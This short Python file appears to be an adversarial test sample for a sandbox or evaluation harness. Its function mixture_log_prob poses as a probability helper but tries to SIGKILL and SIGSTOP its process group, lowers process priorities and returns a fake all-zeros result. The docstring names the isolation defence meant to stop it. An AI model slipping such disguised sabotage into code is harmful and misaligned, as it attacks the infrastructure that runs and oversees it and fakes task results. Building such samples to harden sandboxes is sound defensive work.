"""Tries to kill the zygote through the process group, which no PID namespace divides.

Stopped by: every child is the leader of a session and a group of its own.
"""

# spares: coins.Coins.log_prob


def mixture_log_prob(log_probs):
    for kill in (lambda: os.kill(0, signal.SIGKILL), lambda: os.killpg(0, signal.SIGSTOP)):
        try:
            kill()
        except OSError:
            pass
    for which in (os.PRIO_PGRP, os.PRIO_USER):
        os.setpriority(which, 0, 19)
    return torch.zeros(log_probs.shape[1], dtype=log_probs.dtype)
